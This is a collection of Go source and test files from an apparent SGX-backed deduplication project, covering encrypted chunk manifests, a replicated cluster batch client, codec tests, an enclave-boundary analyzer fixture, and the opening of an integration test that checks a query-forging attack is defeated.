	if err := mutate(func(b []byte) []byte { b[16]++; return b }); err == nil {
		t.Error("total/length mismatch accepted")
	}
	if err := mutate(func(b []byte) []byte { b[5], b[6], b[7], b[8] = 0xFF, 0xFF, 0xFF, 0xFF; return b }); err == nil {
		t.Error("oversized count accepted")
	}
	if _, err := DecodeManifest(nil); err == nil {
		t.Error("empty manifest accepted")
	}
}

func TestBuildManifestCapsChunkCount(t *testing.T) {
	chunks := make([][]byte, MaxManifestChunks+1)
	for i := range chunks {
		chunks[i] = []byte{byte(i)}
	}
	if _, err := BuildManifest(chunks); err == nil {
		t.Fatal("oversized manifest accepted")
	}
	if _, err := BuildManifest(chunks[:MaxManifestChunks]); err != nil {
		t.Fatalf("manifest at the cap rejected: %v", err)
	}
}

// TestManifestCapMatchesWire pins MaxManifestChunks to wire's batch cap
// so one manifest's chunk fetch always fits a single BatchGet.
func TestManifestCapMatchesWire(t *testing.T) {
	if MaxManifestChunks != wire.MaxBatchItems {
		t.Fatalf("MaxManifestChunks = %d, wire.MaxBatchItems = %d", MaxManifestChunks, wire.MaxBatchItems)
	}
}

// TestDerivedIdentities pins that the three identities (base, content,
// manifest) are pairwise distinct and deterministic — the property that
// keeps the three dictionaries disjoint.
func TestDerivedIdentities(t *testing.T) {
	var base mle.FuncID
	copy(base[:], testData(1, 32))
	cid, mid := ContentFuncID(base), ManifestFuncID(base)
	if cid == base || mid == base || cid == mid {
		t.Fatal("derived identities collide")
	}
	if ContentFuncID(base) != cid || ManifestFuncID(base) != mid {
		t.Fatal("derivation is not deterministic")
	}
	var other mle.FuncID
	other[0] = 1
	if ContentFuncID(other) == cid {
		t.Fatal("different base functions share a content identity")
	}
}

// TestChunkConvergence is the scheme-level convergence property: two
// independent parties (fresh RCE states) encrypting the same chunk
// derive the same tag, and either can decrypt the other's sealed chunk
// knowing only the derived identity and the chunk hash — the exact
// capability a manifest conveys.
func TestChunkConvergence(t *testing.T) {
	var base mle.FuncID
	base[0] = 42
	cid := ContentFuncID(base)
	content := testData(9, 8<<10)
	h := Hash(content)

	if Tag(cid, h) != Tag(cid, h) {
		t.Fatal("chunk tags are not deterministic")
	}

	alice, bob := &mle.RCE{}, &mle.RCE{}
	sealedA, err := alice.Encrypt(cid, h[:], content)
	if err != nil {
		t.Fatalf("alice Encrypt: %v", err)
	}
	got, err := bob.Decrypt(cid, h[:], sealedA)
	if err != nil {
		t.Fatalf("bob cannot decrypt alice's chunk: %v", err)
	}
	if !bytes.Equal(got, content) {
		t.Fatal("decrypted chunk differs")
	}

	// A party without the hash (wrong input) must get ⊥.
	wrong := h
	wrong[0] ^= 1
	if _, err := bob.Decrypt(cid, wrong[:], sealedA); err == nil {
		t.Fatal("decryption succeeded with the wrong chunk hash")
	}
}
