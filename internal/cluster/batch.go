package cluster

import (
	"errors"
	"fmt"
	"sync"

	"speed/internal/dedup"
	"speed/internal/mle"
	"speed/internal/wire"
)

// pickRead returns the first member in the tag's read order that has
// not already failed for this request.
func (c *Client) pickRead(tag mle.Tag, excluded map[int]bool) (int, bool) {
	for _, ni := range c.readOrder(tag) {
		if !excluded[ni] {
			return ni, true
		}
	}
	return 0, false
}

// pickWrite returns the next member a failover write should target:
// the first live, not-yet-failed member in ring order, or any
// not-yet-failed member when everything is down.
func (c *Client) pickWrite(tag mle.Tag, excluded map[int]bool) (int, bool) {
	all := c.ring.owners(tag, len(c.nodes))
	for _, ni := range all {
		if !excluded[ni] && c.nodes[ni].up.Load() {
			return ni, true
		}
	}
	for _, ni := range all {
		if !excluded[ni] {
			return ni, true
		}
	}
	return 0, false
}

// groupResult carries one member's answer for its slice of a batch.
type groupResult struct {
	ni   int
	idxs []int
	gets []wire.GetResult
	puts []wire.PutResult
	err  error
}

// GetBatch implements dedup.BatchClient: tags are grouped by their
// preferred member and fetched in parallel per-node round trips, merged
// back positionally. A member failure re-routes only that member's tags
// to the next replica in further rounds; results found away from their
// primary are read-repaired in the background. The call errors only
// when some tag runs out of reachable members.
func (c *Client) GetBatch(tags []mle.Tag) ([]wire.GetResult, error) {
	return c.GetBatchTraced(wire.TraceContext{}, tags)
}

// GetBatchTraced is GetBatch carrying a trace context: each per-member
// round trip becomes a route_batch_get leg span of the sampled call.
func (c *Client) GetBatchTraced(tc wire.TraceContext, tags []mle.Tag) ([]wire.GetResult, error) {
	if c.closed.Load() {
		return nil, errClientClosed
	}
	if len(tags) == 0 {
		return nil, nil
	}
	results := make([]wire.GetResult, len(tags))
	primaries := make([]int, len(tags))
	for i, tag := range tags {
		primaries[i] = c.ring.owners(tag, 1)[0]
	}
	excluded := make([]map[int]bool, len(tags))
	repairs := make(map[int][]wire.PutItem)
	pending := make([]int, len(tags))
	for i := range pending {
		pending[i] = i
	}
	for len(pending) > 0 {
		groups := make(map[int][]int)
		for _, idx := range pending {
			ni, ok := c.pickRead(tags[idx], excluded[idx])
			if !ok {
				return nil, fmt.Errorf("cluster: batch get: no member reachable for tag %x", tags[idx][:4])
			}
			groups[ni] = append(groups[ni], idx)
		}
		var next []int
		for _, gr := range c.runGets(tc, tags, groups) {
			n := c.nodes[gr.ni]
			if gr.err != nil {
				c.noteFailure(n, gr.err)
				c.noteFailover(n, len(gr.idxs))
				for _, idx := range gr.idxs {
					if excluded[idx] == nil {
						excluded[idx] = make(map[int]bool)
					}
					excluded[idx][gr.ni] = true
				}
				next = append(next, gr.idxs...)
				continue
			}
			c.noteSuccess(n)
			n.routedGet.Add(int64(len(gr.idxs)))
			for k, idx := range gr.idxs {
				results[idx] = gr.gets[k]
				if gr.gets[k].Found && gr.ni != primaries[idx] {
					repairs[primaries[idx]] = append(repairs[primaries[idx]],
						wire.PutItem{Tag: tags[idx], Sealed: gr.gets[k].Sealed})
				}
			}
		}
		pending = next
	}
	for primary, items := range repairs {
		c.repairAsync(primary, tc, items)
	}
	return results, nil
}

// runGets issues one BatchGet per group concurrently and collects the
// answers; merging into shared state is the caller's, serially.
func (c *Client) runGets(tc wire.TraceContext, tags []mle.Tag, groups map[int][]int) []groupResult {
	out := make([]groupResult, 0, len(groups))
	for ni, idxs := range groups {
		out = append(out, groupResult{ni: ni, idxs: idxs})
	}
	var wg sync.WaitGroup
	for i := range out {
		gr := &out[i]
		wg.Add(1)
		go func() {
			defer wg.Done()
			chunk := make([]mle.Tag, len(gr.idxs))
			for k, idx := range gr.idxs {
				chunk[k] = tags[idx]
			}
			start := legClock(tc)
			fwd, leg := forwardLeg(tc)
			gr.gets, gr.err = c.nodes[gr.ni].client.GetBatchTraced(fwd, chunk)
			if gr.err == nil && len(gr.gets) != len(chunk) {
				gr.err = fmt.Errorf("cluster: member %s answered %d results for %d tags",
					c.nodes[gr.ni].addr, len(gr.gets), len(chunk))
			}
			c.recordLeg(tc, leg, "route_batch_get", c.nodes[gr.ni].addr, start,
				fmt.Sprintf("%d tags", len(chunk)), gr.err)
		}()
	}
	wg.Wait()
	return out
}

// HasBatch implements dedup.HasBatcher: each tag's primary member (the
// node a routed GET would consult first) is asked whether it holds the
// tag, in parallel per-member HAS_BATCH round trips. Answers are hints
// in both directions — a member failure or a member too old to
// negotiate FeatureChunking reports its tags as absent rather than
// failing the probe, so callers just transfer bytes they might have
// skipped. No hit counting or recency happens anywhere on this path.
func (c *Client) HasBatch(tags []mle.Tag) ([]bool, error) {
	if c.closed.Load() {
		return nil, errClientClosed
	}
	if len(tags) == 0 {
		return nil, nil
	}
	present := make([]bool, len(tags))
	groups := make(map[int][]int)
	for i, tag := range tags {
		if ni, ok := c.pickRead(tag, nil); ok {
			groups[ni] = append(groups[ni], i)
		}
	}
	out := make([]groupResult, 0, len(groups))
	for ni, idxs := range groups {
		out = append(out, groupResult{ni: ni, idxs: idxs})
	}
	answers := make([][]bool, len(out))
	var wg sync.WaitGroup
	for i := range out {
		gr := &out[i]
		wg.Add(1)
		go func(slot int) {
			defer wg.Done()
			chunk := make([]mle.Tag, len(gr.idxs))
			for k, idx := range gr.idxs {
				chunk[k] = tags[idx]
			}
			answers[slot], gr.err = c.nodes[gr.ni].client.HasBatch(chunk)
		}(i)
	}
	wg.Wait()
	for i, gr := range out {
		n := c.nodes[gr.ni]
		if gr.err != nil {
			if !errors.Is(gr.err, dedup.ErrHasBatchUnsupported) {
				c.noteFailure(n, gr.err)
			}
			continue // tags stay reported absent
		}
		c.noteSuccess(n)
		if len(answers[i]) != len(gr.idxs) {
			continue
		}
		for k, idx := range gr.idxs {
			present[idx] = answers[i][k]
		}
	}
	return present, nil
}

// hasAtWriteTargets reports, for each tag, whether every one of its
// current write targets (the members PutBatch would replicate to)
// already holds it. The syncer uses this to skip shipping entries that
// are fully placed. Like HasBatch it is a hint: a probe failure, an
// unsupported member, or a short answer reports false, costing one
// redundant transfer, never correctness.
func (c *Client) hasAtWriteTargets(tags []mle.Tag) []bool {
	present := make([]bool, len(tags))
	if c.closed.Load() || len(tags) == 0 {
		return present
	}
	groups := make(map[int][]int)
	targets := make([]int, len(tags))
	for i, tag := range tags {
		for _, ni := range c.writeTargets(tag) {
			groups[ni] = append(groups[ni], i)
			targets[i]++
		}
	}
	out := make([]groupResult, 0, len(groups))
	for ni, idxs := range groups {
		out = append(out, groupResult{ni: ni, idxs: idxs})
	}
	answers := make([][]bool, len(out))
	var wg sync.WaitGroup
	for i := range out {
		gr := &out[i]
		wg.Add(1)
		go func(slot int) {
			defer wg.Done()
			chunk := make([]mle.Tag, len(gr.idxs))
			for k, idx := range gr.idxs {
				chunk[k] = tags[idx]
			}
			answers[slot], gr.err = c.nodes[gr.ni].client.HasBatch(chunk)
		}(i)
	}
	wg.Wait()
	confirmed := make([]int, len(tags))
	for i, gr := range out {
		n := c.nodes[gr.ni]
		if gr.err != nil {
			if !errors.Is(gr.err, dedup.ErrHasBatchUnsupported) {
				c.noteFailure(n, gr.err)
			}
			continue
		}
		c.noteSuccess(n)
		if len(answers[i]) != len(gr.idxs) {
			continue
		}
		for k, idx := range gr.idxs {
			if answers[i][k] {
				confirmed[idx]++
			}
		}
	}
	for i := range tags {
		present[i] = targets[i] > 0 && confirmed[i] == targets[i]
	}
	return present
}

// PutBatch implements dedup.BatchClient: every item fans out to its
// write targets (Replicas live owners) in one parallel pass; an item is
// OK as soon as any replica accepted it, and items whose every target
// failed at the transport level are re-routed in failover rounds. The
// call errors only when some item runs out of reachable members.
func (c *Client) PutBatch(items []wire.PutItem) ([]wire.PutResult, error) {
	return c.PutBatchTraced(wire.TraceContext{}, items)
}

// PutBatchTraced is PutBatch carrying a trace context: each per-member
// round trip becomes a route_batch_put leg span of the sampled call.
func (c *Client) PutBatchTraced(tc wire.TraceContext, items []wire.PutItem) ([]wire.PutResult, error) {
	if c.closed.Load() {
		return nil, errClientClosed
	}
	if len(items) == 0 {
		return nil, nil
	}
	ok := make([]bool, len(items))
	responded := make([]bool, len(items))
	rejected := make([]string, len(items))
	excluded := make([]map[int]bool, len(items))

	merge := func(grs []groupResult) {
		for _, gr := range grs {
			n := c.nodes[gr.ni]
			if gr.err != nil {
				c.noteFailure(n, gr.err)
				c.noteFailover(n, len(gr.idxs))
				for _, idx := range gr.idxs {
					if excluded[idx] == nil {
						excluded[idx] = make(map[int]bool)
					}
					excluded[idx][gr.ni] = true
				}
				continue
			}
			c.noteSuccess(n)
			n.routedPut.Add(int64(len(gr.idxs)))
			for k, idx := range gr.idxs {
				responded[idx] = true
				if gr.puts[k].OK {
					ok[idx] = true
				} else if rejected[idx] == "" {
					rejected[idx] = gr.puts[k].Err
				}
			}
		}
	}

	// First pass: full replication to each item's write targets.
	groups := make(map[int][]int)
	for i, it := range items {
		for _, ni := range c.writeTargets(it.Tag) {
			groups[ni] = append(groups[ni], i)
		}
	}
	merge(c.runPuts(tc, items, groups))

	// Failover rounds: items with zero responses chase the next
	// reachable member, one target per round — availability now,
	// re-replication later via read-repair and the syncer.
	for round := 1; round < len(c.nodes); round++ {
		groups = make(map[int][]int)
		for i := range items {
			if responded[i] {
				continue
			}
			ni, found := c.pickWrite(items[i].Tag, excluded[i])
			if !found {
				return nil, fmt.Errorf("cluster: batch put: no member reachable for item %d", i)
			}
			groups[ni] = append(groups[ni], i)
		}
		if len(groups) == 0 {
			break
		}
		merge(c.runPuts(tc, items, groups))
	}

	results := make([]wire.PutResult, len(items))
	for i := range items {
		switch {
		case ok[i]:
			results[i] = wire.PutResult{OK: true}
		case responded[i]:
			results[i] = wire.PutResult{OK: false, Err: rejected[i]}
		default:
			return nil, fmt.Errorf("cluster: batch put: no replica reachable for item %d", i)
		}
	}
	return results, nil
}

// runPuts issues one BatchPut per group concurrently and collects the
// answers.
func (c *Client) runPuts(tc wire.TraceContext, items []wire.PutItem, groups map[int][]int) []groupResult {
	out := make([]groupResult, 0, len(groups))
	for ni, idxs := range groups {
		out = append(out, groupResult{ni: ni, idxs: idxs})
	}
	var wg sync.WaitGroup
	for i := range out {
		gr := &out[i]
		wg.Add(1)
		go func() {
			defer wg.Done()
			chunk := make([]wire.PutItem, len(gr.idxs))
			for k, idx := range gr.idxs {
				chunk[k] = items[idx]
			}
			start := legClock(tc)
			fwd, leg := forwardLeg(tc)
			gr.puts, gr.err = c.nodes[gr.ni].client.PutBatchTraced(fwd, chunk)
			if gr.err == nil && len(gr.puts) != len(chunk) {
				gr.err = fmt.Errorf("cluster: member %s answered %d results for %d items",
					c.nodes[gr.ni].addr, len(gr.puts), len(chunk))
			}
			c.recordLeg(tc, leg, "route_batch_put", c.nodes[gr.ni].addr, start,
				fmt.Sprintf("%d items", len(chunk)), gr.err)
		}()
	}
	wg.Wait()
	return out
}
