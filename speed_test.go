package speed

import (
	"bytes"
	"errors"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"testing/quick"
	"time"
)

func newTestSystem(t *testing.T) *System {
	t.Helper()
	sys, err := NewSystemWithConfig(SystemConfig{DisableSGXCosts: true})
	if err != nil {
		t.Fatalf("NewSystem: %v", err)
	}
	t.Cleanup(sys.Close)
	return sys
}

func newTestApp(t *testing.T, sys *System, name string) *App {
	t.Helper()
	app, err := sys.NewApp(name, []byte(name+" code"))
	if err != nil {
		t.Fatalf("NewApp: %v", err)
	}
	t.Cleanup(func() { _ = app.Close() })
	app.RegisterLibrary("mathlib", "1.0", []byte("mathlib code"))
	return app
}

var squareDesc = FuncDesc{Library: "mathlib", Version: "1.0", Signature: "int square(int)"}

func TestDeduplicableBasicReuse(t *testing.T) {
	sys := newTestSystem(t)
	app := newTestApp(t, sys, "app")

	var calls atomic.Int64
	square, err := NewDeduplicable(app, squareDesc, func(x int) (int, error) {
		calls.Add(1)
		return x * x, nil
	})
	if err != nil {
		t.Fatalf("NewDeduplicable: %v", err)
	}

	got, outcome, err := square.CallOutcome(12)
	if err != nil {
		t.Fatalf("Call: %v", err)
	}
	if got != 144 || outcome != OutcomeComputed {
		t.Errorf("first call = (%d, %v), want (144, computed)", got, outcome)
	}

	got, outcome, err = square.CallOutcome(12)
	if err != nil {
		t.Fatalf("Call: %v", err)
	}
	if got != 144 || outcome != OutcomeReused {
		t.Errorf("second call = (%d, %v), want (144, reused)", got, outcome)
	}
	if calls.Load() != 1 {
		t.Errorf("function ran %d times, want 1", calls.Load())
	}

	if got, err := square.Call(5); err != nil || got != 25 {
		t.Errorf("Call(5) = (%d, %v), want 25", got, err)
	}

	st := app.Stats()
	if st.Calls != 3 || st.Reused != 1 || st.Computed != 2 {
		t.Errorf("Stats = %+v, want 3 calls, 1 reused, 2 computed", st)
	}
}

func TestDeduplicableRequiresRegisteredLibrary(t *testing.T) {
	sys := newTestSystem(t)
	app, err := sys.NewApp("bare", []byte("bare code"))
	if err != nil {
		t.Fatalf("NewApp: %v", err)
	}
	defer app.Close()

	_, err = NewDeduplicable(app, squareDesc, func(x int) (int, error) { return x, nil })
	if err == nil {
		t.Error("NewDeduplicable accepted an unregistered library")
	}
}

func TestDeduplicableNilFunc(t *testing.T) {
	sys := newTestSystem(t)
	app := newTestApp(t, sys, "app")
	if _, err := NewDeduplicable[int, int](app, squareDesc, nil); err == nil {
		t.Error("NewDeduplicable accepted nil function")
	}
}

func TestDeduplicableErrorPropagates(t *testing.T) {
	sys := newTestSystem(t)
	app := newTestApp(t, sys, "app")
	wantErr := errors.New("domain failure")
	f, err := NewDeduplicable(app, squareDesc, func(x int) (int, error) {
		return 0, wantErr
	})
	if err != nil {
		t.Fatalf("NewDeduplicable: %v", err)
	}
	if _, err := f.Call(1); !errors.Is(err, wantErr) {
		t.Errorf("Call = %v, want %v", err, wantErr)
	}
}

func TestDeduplicableBytesCodec(t *testing.T) {
	sys := newTestSystem(t)
	app := newTestApp(t, sys, "app")
	rev, err := NewDeduplicable(app,
		FuncDesc{Library: "mathlib", Version: "1.0", Signature: "bytes reverse(bytes)"},
		func(b []byte) ([]byte, error) {
			out := make([]byte, len(b))
			for i, c := range b {
				out[len(b)-1-i] = c
			}
			return out, nil
		},
		WithInputCodec[[]byte, []byte](BytesCodec{}),
		WithOutputCodec[[]byte, []byte](BytesCodec{}),
	)
	if err != nil {
		t.Fatalf("NewDeduplicable: %v", err)
	}
	got, err := rev.Call([]byte("hello"))
	if err != nil {
		t.Fatalf("Call: %v", err)
	}
	if string(got) != "olleh" {
		t.Errorf("Call = %q, want %q", got, "olleh")
	}
	got2, outcome, err := rev.CallOutcome([]byte("hello"))
	if err != nil || outcome != OutcomeReused || !bytes.Equal(got, got2) {
		t.Errorf("reuse = (%q, %v, %v), want identical reused result", got2, outcome, err)
	}
}

func TestDeduplicableStructTypes(t *testing.T) {
	type Point struct{ X, Y int }
	type Dist struct{ D2 int }

	sys := newTestSystem(t)
	app := newTestApp(t, sys, "app")
	dist, err := NewDeduplicable(app,
		FuncDesc{Library: "mathlib", Version: "1.0", Signature: "Dist dist(Point)"},
		func(p Point) (Dist, error) {
			return Dist{D2: p.X*p.X + p.Y*p.Y}, nil
		})
	if err != nil {
		t.Fatalf("NewDeduplicable: %v", err)
	}
	got, err := dist.Call(Point{3, 4})
	if err != nil || got.D2 != 25 {
		t.Errorf("Call = (%+v, %v), want D2=25", got, err)
	}
	_, outcome, err := dist.CallOutcome(Point{3, 4})
	if err != nil || outcome != OutcomeReused {
		t.Errorf("reuse = (%v, %v), want reused", outcome, err)
	}
}

// Two distinct applications deduplicate across each other when they own
// the same library — the headline cross-application property.
func TestCrossApplicationDeduplication(t *testing.T) {
	sys := newTestSystem(t)
	appA := newTestApp(t, sys, "appA")
	appB := newTestApp(t, sys, "appB")

	mk := func(app *App, calls *atomic.Int64) *Deduplicable[string, string] {
		f, err := NewDeduplicable(app,
			FuncDesc{Library: "mathlib", Version: "1.0", Signature: "string upper(string)"},
			func(s string) (string, error) {
				calls.Add(1)
				return strings.ToUpper(s), nil
			},
			WithInputCodec[string, string](StringCodec{}),
			WithOutputCodec[string, string](StringCodec{}),
		)
		if err != nil {
			t.Fatalf("NewDeduplicable: %v", err)
		}
		return f
	}
	var callsA, callsB atomic.Int64
	fA := mk(appA, &callsA)
	fB := mk(appB, &callsB)

	if got, err := fA.Call("hello"); err != nil || got != "HELLO" {
		t.Fatalf("A Call = (%q, %v)", got, err)
	}
	got, outcome, err := fB.CallOutcome("hello")
	if err != nil {
		t.Fatalf("B Call: %v", err)
	}
	if outcome != OutcomeReused || got != "HELLO" {
		t.Errorf("B = (%q, %v), want reused HELLO", got, outcome)
	}
	if callsB.Load() != 0 {
		t.Errorf("app B executed the function %d times, want 0", callsB.Load())
	}
}

// An app using the single-key basic design interoperates with itself
// but demonstrates the scheme choice is honoured.
func TestSingleKeySchemeApp(t *testing.T) {
	sys := newTestSystem(t)
	key := [16]byte{1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16}
	app, err := sys.NewAppWithConfig("sk", []byte("sk code"), AppConfig{SingleKey: &key})
	if err != nil {
		t.Fatalf("NewAppWithConfig: %v", err)
	}
	defer app.Close()
	app.RegisterLibrary("mathlib", "1.0", []byte("mathlib code"))

	f, err := NewDeduplicable(app, squareDesc, func(x int) (int, error) { return x * x, nil })
	if err != nil {
		t.Fatalf("NewDeduplicable: %v", err)
	}
	if got, err := f.Call(9); err != nil || got != 81 {
		t.Fatalf("Call = (%d, %v), want 81", got, err)
	}
	if _, outcome, err := f.CallOutcome(9); err != nil || outcome != OutcomeReused {
		t.Errorf("reuse = (%v, %v), want reused", outcome, err)
	}
}

func TestRemoteStoreApp(t *testing.T) {
	// The store lives in one deployment and serves over TCP; the app
	// is created against the remote address.
	storeSys := newTestSystem(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	srv := storeSys.Serve(ln)
	t.Cleanup(func() { _ = srv.Close() })

	app, err := storeSys.NewAppWithConfig("remote-app", []byte("remote app code"), AppConfig{
		RemoteStoreAddr:        srv.Addr().String(),
		RemoteStoreMeasurement: storeSys.StoreMeasurement(),
	})
	if err != nil {
		t.Fatalf("NewAppWithConfig: %v", err)
	}
	defer app.Close()
	app.RegisterLibrary("mathlib", "1.0", []byte("mathlib code"))

	f, err := NewDeduplicable(app, squareDesc, func(x int) (int, error) { return x * x, nil })
	if err != nil {
		t.Fatalf("NewDeduplicable: %v", err)
	}
	if got, err := f.Call(7); err != nil || got != 49 {
		t.Fatalf("Call = (%d, %v), want 49", got, err)
	}
	if _, outcome, err := f.CallOutcome(7); err != nil || outcome != OutcomeReused {
		t.Errorf("remote reuse = (%v, %v), want reused", outcome, err)
	}
	if got := storeSys.StoreStats().Entries; got != 1 {
		t.Errorf("store entries = %d, want 1", got)
	}
}

func TestAsyncPutApp(t *testing.T) {
	sys := newTestSystem(t)
	app, err := sys.NewAppWithConfig("async", []byte("async code"), AppConfig{AsyncPut: true})
	if err != nil {
		t.Fatalf("NewAppWithConfig: %v", err)
	}
	defer app.Close()
	app.RegisterLibrary("mathlib", "1.0", []byte("mathlib code"))

	f, err := NewDeduplicable(app, squareDesc, func(x int) (int, error) { return x * x, nil })
	if err != nil {
		t.Fatalf("NewDeduplicable: %v", err)
	}
	if got, err := f.Call(3); err != nil || got != 9 {
		t.Fatalf("Call = (%d, %v), want 9", got, err)
	}
	deadline := time.After(2 * time.Second)
	for sys.StoreStats().Entries == 0 {
		select {
		case <-deadline:
			t.Fatal("async put never landed")
		default:
			time.Sleep(time.Millisecond)
		}
	}
}

func TestQuotaEnforcedThroughAPI(t *testing.T) {
	sys, err := NewSystemWithConfig(SystemConfig{
		DisableSGXCosts:     true,
		QuotaMaxBytesPerApp: 8,
	})
	if err != nil {
		t.Fatalf("NewSystem: %v", err)
	}
	defer sys.Close()
	app, err := sys.NewApp("quota-app", []byte("quota code"))
	if err != nil {
		t.Fatalf("NewApp: %v", err)
	}
	defer app.Close()
	app.RegisterLibrary("mathlib", "1.0", []byte("mathlib code"))

	big, err := NewDeduplicable(app,
		FuncDesc{Library: "mathlib", Version: "1.0", Signature: "bytes big(bytes)"},
		func(b []byte) ([]byte, error) { return bytes.Repeat(b, 100), nil },
		WithInputCodec[[]byte, []byte](BytesCodec{}),
		WithOutputCodec[[]byte, []byte](BytesCodec{}),
	)
	if err != nil {
		t.Fatalf("NewDeduplicable: %v", err)
	}
	// The call succeeds (the caller always gets its result) but the
	// upload is rejected by quota, so nothing is stored.
	if _, err := big.Call([]byte("x")); err != nil {
		t.Fatalf("Call: %v", err)
	}
	if got := sys.StoreStats().PutDenied; got != 1 {
		t.Errorf("PutDenied = %d, want 1", got)
	}
	if got := app.Stats().PutErrors; got != 1 {
		t.Errorf("PutErrors = %d, want 1", got)
	}
}

func TestSystemEPCTracking(t *testing.T) {
	sys := newTestSystem(t)
	app := newTestApp(t, sys, "app")
	f, err := NewDeduplicable(app, squareDesc, func(x int) (int, error) { return x * x, nil })
	if err != nil {
		t.Fatalf("NewDeduplicable: %v", err)
	}
	if _, err := f.Call(2); err != nil {
		t.Fatalf("Call: %v", err)
	}
	if got := sys.EPCUsed(); got <= 0 {
		t.Errorf("EPCUsed = %d, want > 0 (metadata entry resident)", got)
	}
}

func TestCodecsRoundTrip(t *testing.T) {
	t.Run("bytes", func(t *testing.T) {
		prop := func(b []byte) bool {
			enc, err := BytesCodec{}.Encode(b)
			if err != nil {
				return false
			}
			dec, err := BytesCodec{}.Decode(enc)
			return err == nil && bytes.Equal(dec, b)
		}
		if err := quick.Check(prop, nil); err != nil {
			t.Error(err)
		}
	})
	t.Run("string", func(t *testing.T) {
		prop := func(s string) bool {
			enc, err := StringCodec{}.Encode(s)
			if err != nil {
				return false
			}
			dec, err := StringCodec{}.Decode(enc)
			return err == nil && dec == s
		}
		if err := quick.Check(prop, nil); err != nil {
			t.Error(err)
		}
	})
	t.Run("gob", func(t *testing.T) {
		type rec struct {
			A int
			B string
			C []float64
		}
		prop := func(a int, b string, c []float64) bool {
			v := rec{A: a, B: b, C: c}
			enc, err := GobCodec[rec]{}.Encode(v)
			if err != nil {
				return false
			}
			dec, err := GobCodec[rec]{}.Decode(enc)
			if err != nil || dec.A != v.A || dec.B != v.B || len(dec.C) != len(v.C) {
				return false
			}
			for i := range v.C {
				if dec.C[i] != v.C[i] {
					return false
				}
			}
			return true
		}
		if err := quick.Check(prop, &quick.Config{MaxCount: 64}); err != nil {
			t.Error(err)
		}
	})
	t.Run("json", func(t *testing.T) {
		type rec struct {
			A int               `json:"a"`
			M map[string]string `json:"m"`
		}
		v := rec{A: 7, M: map[string]string{"k1": "v1", "k2": "v2"}}
		enc, err := JSONCodec[rec]{}.Encode(v)
		if err != nil {
			t.Fatalf("Encode: %v", err)
		}
		// JSON map encoding is deterministic (sorted keys): encoding
		// twice must match, a requirement for stable tags.
		enc2, err := JSONCodec[rec]{}.Encode(rec{A: 7, M: map[string]string{"k2": "v2", "k1": "v1"}})
		if err != nil {
			t.Fatalf("Encode: %v", err)
		}
		if !bytes.Equal(enc, enc2) {
			t.Error("JSON encoding of equal maps differs")
		}
		dec, err := JSONCodec[rec]{}.Decode(enc)
		if err != nil || dec.A != 7 || dec.M["k1"] != "v1" {
			t.Errorf("Decode = (%+v, %v)", dec, err)
		}
	})
}

func TestGobCodecDecodeError(t *testing.T) {
	if _, err := (GobCodec[int]{}).Decode([]byte("not gob")); err == nil {
		t.Error("Decode accepted garbage")
	}
}

func TestDuplicateAppNameRejected(t *testing.T) {
	sys := newTestSystem(t)
	if _, err := sys.NewApp("dup", []byte("c")); err != nil {
		t.Fatalf("NewApp: %v", err)
	}
	if _, err := sys.NewApp("dup", []byte("c")); err == nil {
		t.Error("duplicate app name accepted")
	}
}
