// Package outside is untrusted application code reaching past the
// documented ECALL surface.
package outside

import (
	"fix/enclaveboundary/enclave"
)

type Channel struct{}

func (Channel) Send(b []byte) error { return nil }

func verify(q []byte) error {
	return enclave.VerifyQuote(q) // want `attestation primitive enclave.VerifyQuote called from package outside`
}

func seal(e enclave.Enclave, data []byte) ([]byte, error) {
	return e.Seal(data) // want `sealing primitive Enclave.Seal called from package outside`
}

// sendCipher ships ciphertext, which is fine. (Raw-secret sends are
// now the sealflow analyzer's fixture territory.)
func sendCipher(ch Channel, wrappedKey []byte) error {
	return ch.Send(wrappedKey)
}
