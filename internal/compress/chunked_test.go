package compress

import (
	"bytes"
	"math/rand"
	"testing"

	"speed/internal/chunk"
)

// TestChunkingWriterMatchesWholeStream: feeding data through the
// chunking compressor in ragged writes yields chunks that concatenate
// to exactly the stream a plain Writer produces in one shot, and the
// result round-trips through Reader.
func TestChunkingWriterMatchesWholeStream(t *testing.T) {
	ck, err := chunk.NewChunker(chunk.Config{})
	if err != nil {
		t.Fatalf("NewChunker: %v", err)
	}
	data := make([]byte, 300<<10)
	rand.New(rand.NewSource(42)).Read(data)
	// Compressible structure: repeat a slice a few times.
	copy(data[100<<10:], data[:100<<10])

	var whole bytes.Buffer
	w := NewWriterSize(&whole, 32<<10)
	if _, err := w.Write(data); err != nil {
		t.Fatalf("whole Write: %v", err)
	}
	if err := w.Close(); err != nil {
		t.Fatalf("whole Close: %v", err)
	}

	var chunked bytes.Buffer
	nChunks := 0
	cw := NewChunkingWriterSize(ck, func(c []byte) error {
		nChunks++
		chunked.Write(c)
		return nil
	}, 32<<10)
	for off := 0; off < len(data); {
		n := 1 + (off*7919)%8192 // ragged write sizes
		if off+n > len(data) {
			n = len(data) - off
		}
		if _, err := cw.Write(data[off : off+n]); err != nil {
			t.Fatalf("chunked Write: %v", err)
		}
		off += n
	}
	if err := cw.Close(); err != nil {
		t.Fatalf("chunked Close: %v", err)
	}

	if !bytes.Equal(chunked.Bytes(), whole.Bytes()) {
		t.Fatal("chunked stream differs from whole-shot stream")
	}
	if nChunks < 2 {
		t.Fatalf("stream was cut into %d chunks; want several", nChunks)
	}
	var out bytes.Buffer
	if _, err := out.ReadFrom(NewReader(&chunked)); err != nil {
		t.Fatalf("Reader: %v", err)
	}
	if !bytes.Equal(out.Bytes(), data) {
		t.Fatal("decompressed data differs from input")
	}
}
