package integration_test

import (
	"bytes"
	"errors"
	"testing"

	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/store"
)

// End-to-end checks of the security claims in Sections II-C and III-D
// of the paper, exercised over the full stack rather than the crypto
// primitives alone.

// Query-forging attack (Section III-D): an attacker who has obtained a
// victim's computation TAG (short leak) and has full store access can
// fetch the (r, [k], [res]) triple — but cannot decrypt it, because it
// does not own the victim's function code.
func TestQueryForgingAttackDefeated(t *testing.T) {
	s := newStack(t, store.Config{}, enclave.Config{})
	victim := s.newApp("victim")
	vID := appFuncID(t, victim, "proprietary-analysis")

	secretResult := []byte("secret analysis result")
	input := []byte("customer data")
	if _, _, err := victim.Execute(vID, input, func([]byte) ([]byte, error) {
		return secretResult, nil
	}); err != nil {
		t.Fatalf("victim Execute: %v", err)
	}

